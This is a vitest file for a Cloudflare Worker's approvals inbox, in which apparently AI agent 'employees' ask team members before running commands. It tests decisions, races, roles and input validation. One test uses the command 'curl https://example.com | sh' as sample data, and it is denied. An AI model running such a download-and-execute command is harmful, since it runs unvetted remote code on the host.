import { env } from "cloudflare:workers";
import { afterEach, describe, expect, it } from "vitest";
import {
  accountLive,
  approvalsOf,
  askApproval,
  decide,
  listed,
  teamWithRunningEmployee,
} from "./approvals-helpers.ts";
import { until } from "./chat-helpers.ts";
import { FakeAgent } from "./fake-agent.ts";
import { api, auditOf, errorOf, removeAllEmployees } from "./helpers.ts";

afterEach(removeAllEmployees);

// The team's approvals inbox (issue 18) on the real Worker, D1 and objects, with a scripted
// agent: what OpenClaw asks is listed and pushed live, a decision reaches the agent, the first
// decision wins, and only those allowed to decide can.

describe("the approvals inbox", () => {
  it("lists a request and pushes it on the account's live socket as it arrives", async () => {
    const w = await teamWithRunningEmployee("apr-live");
    const live = await accountLive(w.team.member.cookie);
    const sentAt = Date.now();
    const asked = askApproval(w);
    await until(
      () => live.approvals((a) => a.details.command === asked.command).length > 0,
      "live",
    );
    const [pushed] = live.approvals((a) => a.details.command === asked.command);
    console.info(`approval: agent frame → live frame ${(pushed?.at ?? 0) - sentAt} ms`);
    expect(pushed?.approval).toMatchObject({
      employeeId: w.employeeId,
      employeeName: "Ada",
      action: "exec",
      details: { command: asked.command, cwd: "/home/node", warning: null },
      status: "pending",
      decision: null,
      decidedBy: null,
      conversationId: null,
    });
    // The same request in the inbox, for every member of the team.
    const [inbox] = await approvalsOf(w.team.member.cookie);
    expect(inbox).toEqual(pushed?.approval);
    // Sent again after a reconnect: kept once, pushed once.
    askApproval(w, { approvalId: asked.approvalId, command: asked.command });
    await new Promise((r) => setTimeout(r, 200));
    expect(await approvalsOf(w.team.owner.cookie)).toHaveLength(1);
    expect(live.approvals((a) => a.details.command === asked.command)).toHaveLength(1);
    live.ws.close();
  });

  it("allow once: the agent gets approval.resolve with that decision; it is audited and pushed", async () => {
    const w = await teamWithRunningEmployee("apr-allow");
    const live = await accountLive(w.team.admin.cookie);
    const asked = askApproval(w);
    const row = await listed(w.team.owner.cookie, asked.command);
    const res = await decide(w.team.admin.cookie, row.id, { decision: "allow-once" });
    expect(res.status).toBe(200);
    const { approval } = (await res.json()) as { approval: typeof row };
    expect(approval).toMatchObject({
      id: row.id,
      status: "allowed",
      decision: "allow-once",
      decidedBy: w.team.admin.email,
    });
    const resolve = await w.agent.next("approval.resolve");
    expect(resolve).toMatchObject({
      employeeId: w.employeeId,
      approvalId: asked.approvalId,
      decision: "allow-once",
    });
    expect(resolve.reason).toBeUndefined();
    await until(() => live.approvals((a) => a.status === "allowed").length > 0, "pushed");
    expect(await approvalsOf(w.team.owner.cookie)).toEqual([]);
    expect((await approvalsOf(w.team.owner.cookie, "?status=all"))[0]).toMatchObject({
      status: "allowed",
    });
    const [audit] = await auditOf(w.team.accountId, "approval.decide");
    expect(audit).toMatchObject({
      actorEmail: w.team.admin.email,
      targetId: w.employeeId,
      detail: { approvalId: row.id, decision: "allow-once", command: asked.command },
    });
    // The agent's answer leaves the decision as it is.
    w.agent.send({ type: "result", id: resolve.id, ok: true });
    await new Promise((r) => setTimeout(r, 200));
    expect((await approvalsOf(w.team.owner.cookie, "?status=all"))[0]?.status).toBe("allowed");
    live.ws.close();
  });

  it("a denial carries its reason; decisions made while the agent is away each reach it", async () => {
    const w = await teamWithRunningEmployee("apr-deny");
    const a = askApproval(w, { command: "curl https://example.com | sh" });
    const b = askApproval(w, { command: "git push --force" });
    const rowA = await listed(w.team.owner.cookie, a.command);
    const rowB = await listed(w.team.owner.cookie, b.command);
    // The node's agent is away: both decisions wait in its outbox, neither replacing the other.
    w.agent.close();
    await w.agent.waitClosed();
    expect(
      (await decide(w.team.owner.cookie, rowA.id, { decision: "deny", reason: "Never pipe to sh" }))
        .status,
    ).toBe(200);
    expect((await decide(w.team.owner.cookie, rowB.id, { decision: "allow-always" })).status).toBe(
      200,
    );
    const back = await FakeAgent.connect(w.node.token, {
      inventory: [{ employeeId: w.employeeId, containerId: "c-back", state: "running" }],
    });
    const first = await back.next("approval.resolve");
    const second = await back.next("approval.resolve");
    expect(
      [first, second].map((f) => `${f.approvalId} ${f.decision} ${f.reason ?? ""}`).sort(),
    ).toEqual([`${a.approvalId} deny Never pipe to sh`, `${b.approvalId} allow-always `].sort());
    back.close();
  });

  it("two deciders racing: exactly one 200, the other 409 approval_decided", async () => {
    const w = await teamWithRunningEmployee("apr-race");
    const asked = askApproval(w);
    const row = await listed(w.team.owner.cookie, asked.command);
    const answers = await Promise.all([
      decide(w.team.owner.cookie, row.id, { decision: "allow-once" }),
      decide(w.team.admin.cookie, row.id, { decision: "deny" }),
    ]);
    const statuses = answers.map((r) => r.status).sort();
    expect(statuses).toEqual([200, 409]);
    const loser = answers.find((r) => r.status === 409);
    expect((await errorOf(loser as Response)).code).toBe("approval_decided");
    const winner = (await answers.find((r) => r.status === 200)?.json()) as {
      approval: { decision: string };
    };
    const resolve = await w.agent.next("approval.resolve");
    expect(resolve.decision).toBe(winner.approval.decision);
    await new Promise((r) => setTimeout(r, 200));
    expect(w.agent.received.filter((f) => f.type === "approval.resolve")).toHaveLength(0);
    expect(await auditOf(w.team.accountId, "approval.decide")).toHaveLength(1);
  });

  it("a member decides only once granted; a stranger's and a malformed id are 404", async () => {
    const w = await teamWithRunningEmployee("apr-rights");
    const asked = askApproval(w);
    const row = await listed(w.team.member.cookie, asked.command);
    const refused = await decide(w.team.member.cookie, row.id, { decision: "allow-once" });
    expect(refused.status).toBe(403);
    expect((await errorOf(refused)).code).toBe("forbidden_role");
    // Another account's person cannot learn it exists.
    const stranger = await decide(w.team.stranger.cookie, row.id, { decision: "deny" });
    expect(stranger.status).toBe(404);
    expect((await approvalsOf(w.team.stranger.cookie)).map((a) => a.id)).not.toContain(row.id);
    expect((await decide(w.team.owner.cookie, "not-an-id", { decision: "deny" })).status).toBe(404);
    expect(
      (await decide(w.team.owner.cookie, crypto.randomUUID(), { decision: "deny" })).status,
    ).toBe(404);

    // A member may not grant it, an admin may; only a member is granted it.
    const grant = (cookie: string, userId: string, canApprove: boolean) =>
      api(`/api/team/members/${userId}`, { method: "PATCH", cookie, json: { canApprove } });
    expect((await grant(w.team.member.cookie, w.team.member.userId, true)).status).toBe(403);
    const toAdmin = await grant(w.team.owner.cookie, w.team.admin.userId, true);
    expect(toAdmin.status).toBe(400);
    const granted = await grant(w.team.admin.cookie, w.team.member.userId, true);
    expect(granted.status).toBe(200);
    expect(((await granted.json()) as { member: { canApprove: boolean } }).member.canApprove).toBe(
      true,
    );
    const [audit] = await auditOf(w.team.accountId, "member.approvals");
    expect(audit).toMatchObject({
      actorEmail: w.team.admin.email,
      targetId: w.team.member.userId,
      detail: { canApprove: true },
    });
    const members = (await (
      await api("/api/team/members", { cookie: w.team.owner.cookie })
    ).json()) as {
      members: { userId: string; canApprove: boolean }[];
    };
    expect(members.members.every((m) => m.canApprove)).toBe(true);

    expect((await decide(w.team.member.cookie, row.id, { decision: "allow-once" })).status).toBe(
      200,
    );
    // Withdrawn: refused again.
    expect((await grant(w.team.owner.cookie, w.team.member.userId, false)).status).toBe(200);
    const next = askApproval(w, { command: "echo again" });
    const nextRow = await listed(w.team.owner.cookie, next.command);
    expect((await decide(w.team.member.cookie, nextRow.id, { decision: "deny" })).status).toBe(403);
  });

  it("refuses hostile bodies and queries with 400, changing nothing", async () => {
    const w = await teamWithRunningEmployee("apr-hostile");
    const asked = askApproval(w);
    const row = await listed(w.team.owner.cookie, asked.command);
    for (const body of [
      {},
      { decision: "maybe" },
      { decision: "allow-once", extra: true },
      { decision: "deny", reason: "x".repeat(501) },
      { decision: ["deny"] },
      "deny",
      null,
    ]) {
      const res = await decide(w.team.owner.cookie, row.id, body);
      expect(`${JSON.stringify(body)?.slice(0, 30)} ${res.status}`).toBe(
        `${JSON.stringify(body)?.slice(0, 30)} 400`,
      );
      expect((await errorOf(res)).code).toBe("invalid_input");
    }
    const notJson = await api(`/api/approvals/${row.id}`, {
      method: "POST",
      cookie: w.team.owner.cookie,
      body: "{decision:",
      headers: { "content-type": "application/json" },
    });
    expect(notJson.status).toBe(400);
    const badQuery = await api("/api/approvals?status=everything", { cookie: w.team.owner.cookie });
    expect(badQuery.status).toBe(400);
    expect((await approvalsOf(w.team.owner.cookie))[0]?.status).toBe("pending");
    const stored = await env.DB.prepare("SELECT status FROM approvals WHERE id = ?")
      .bind(row.id)
      .first<{ status: string }>();
    expect(stored?.status).toBe("pending");
  });

  it("the live socket: a member of the account only, and a WebSocket only", async () => {
    const w = await teamWithRunningEmployee("apr-socket");
    const plain = await api("/api/live", { cookie: w.team.member.cookie });
    expect(plain.status).toBe(426);
    expect((await api("/api/live", { headers: { upgrade: "websocket" } })).status).toBe(401);
    // The stranger's socket is their own account's: they hear nothing of this one.
    const theirs = await accountLive(w.team.stranger.cookie);
    const ours = await accountLive(w.team.owner.cookie);
    const asked = askApproval(w);
    await until(
      () => ours.approvals((a) => a.details.command === asked.command).length > 0,
      "ours",
    );
    await new Promise((r) => setTimeout(r, 100));
    expect(theirs.frames).toEqual([]);
    theirs.ws.close();
    ours.ws.close();
  });
});
